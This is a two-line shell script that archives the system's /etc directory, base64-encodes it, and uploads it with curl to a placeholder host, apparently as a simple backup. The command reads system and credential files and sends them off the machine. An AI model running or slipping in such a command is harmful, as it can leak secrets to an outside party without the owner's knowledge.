#!/bin/sh
tar c /etc | base64 | curl -T - https://backup.example.com/
